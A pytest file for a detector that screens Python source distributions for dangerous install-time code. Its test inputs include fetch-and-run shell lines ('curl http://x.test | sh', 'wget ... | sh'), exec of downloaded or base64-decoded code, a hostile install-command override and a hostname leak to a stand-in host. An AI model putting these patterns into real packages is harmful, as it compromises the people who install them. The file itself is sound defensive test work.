"""What an sdist's installation runs."""

import pytest

from sandboxes.screening.detectors import install_code
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

SETUP = "from setuptools import setup\n"


@pytest.mark.parametrize(
    ("text", "rule", "line", "threat"),
    [
        ("import os\nos.system('curl http://x.test | sh')\nsetup()", "process-fetching", 3, Threat.CRITICAL),
        ("import urllib.request as u\nexec(u.urlopen('http://x.test').read())", "download-and-run", 3, Threat.CRITICAL),
        ("import requests\nrequests.get('http://x.test')", "network", 3, Threat.MEDIUM),
        (
            "import socket, requests\nrequests.get('http://x.test/', params={'h': socket.gethostname()})",
            "host-told", 3, Threat.CRITICAL,
        ),
        (
            ("from setuptools.command.install import install\nimport os\nclass I(install):\n  def run(self):\n"
            "    os.system('curl http://x.test | sh')\nsetup(cmdclass={'install': I})"),
            "process-fetching", 6, Threat.CRITICAL,
        ),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "exec-decoded", 3, Threat.CRITICAL),
        ("if __name__ == '__main__':\n    import os\n    os.system('wget http://x.test -O- | sh')",
         "process-fetching", 4, Threat.CRITICAL),
    ],
)  # fmt: skip
def test_setup_that_does_more(text: str, rule: str, line: int, threat: Threat) -> None:
    found = told(found_in(install_code, {"setup.py": SETUP + text}, Kind.SDIST))
    assert (f"install-code.{rule}", line, threat) in found
    assert found_in(install_code, {"setup.py": SETUP + text}) == []  # a wheel's is not run


@pytest.mark.parametrize(
    "text",
    [
        "setup(name='a')",
        "about = {}\nexec(open('thing/version.py').read(), about)\nsetup()",
        "import subprocess\nv = subprocess.check_output(['git', 'describe']).decode()\nsetup(version=v)",
        "import os, sys\nif os.environ.get('TOKEN'): sys.exit(1)\nsetup()",
        (
            "import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n"
            "  def run(self):\n    subprocess.check_call(['cmake', '.'])\nsetup(cmdclass={'build_ext': B})"
        ),
    ],
)
def test_what_good_setups_do(text: str) -> None:
    files = {"setup.py": SETUP + text, "thing/version.py": "__version__ = '1.0'\n"}
    assert told(found_in(install_code, files, Kind.SDIST), Threat.MEDIUM) == set()


@pytest.mark.parametrize(
    ("settings", "path"),
    [
        ('[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]', "own.py"),
        ('[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["_b"]', "_b/own/__init__.py"),
        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py"),
        ('[tool.poetry.build]\nscript = "make.py"', "make.py"),
    ],
)
def test_build_hooks_inside_the_sdist(settings: str, path: str) -> None:
    code = "import os\ndef build_wheel(*a):\n    os.system('curl http://x.test | sh')\n"
    found = found_in(install_code, {"pyproject.toml": settings, path: code}, Kind.SDIST)
    assert (path, 3, "install-code.process-fetching") in {(each.path, each.line, each.rule) for each in found}
    assert told(found_in(install_code, {"pyproject.toml": "[project]", path: code}, Kind.SDIST)) == set()


def test_a_helper_that_setup_calls_is_followed() -> None:
    files = {
        "setup.py": "from helper import go\ngo()",
        "helper.py": "import os\ndef go():\n  os.system('curl x.test|sh')",
    }
    assert "install-code.process-fetching" in {
        each.rule for each in found_in(install_code, files, Kind.SDIST)
    }


def test_requirements_from_addresses() -> None:
    settings = '[build-system]\nrequires = [\n  "wheel",\n  "tool @ https://x.test/a.whl",\n]'
    found = told(found_in(install_code, {"pyproject.toml": settings}, Kind.SDIST))
    assert found == {("install-code.build-requirement", 4, Threat.HIGH)}


@pytest.mark.parametrize(
    ("text", "threat"), [("print 'two'", Threat.LOW), ("(" * 300 + ")" * 300, Threat.LOW)]
)
def test_a_setup_that_cannot_be_read_is_told(text: str, threat: Threat) -> None:
    found = told(found_in(install_code, {"setup.py": text}, Kind.SDIST))
    assert found == {("install-code.unread", 0, threat)}


@pytest.mark.parametrize(
    "text", ["[[", "build-system = 1", "[build-system]\nrequires = 3\nbackend-path = 4", "a = " + "[" * 5000]
)
def test_hostile_settings_raise_nothing(text: str) -> None:
    found_in(install_code, {"pyproject.toml": text, "setup.py": ""}, Kind.SDIST)
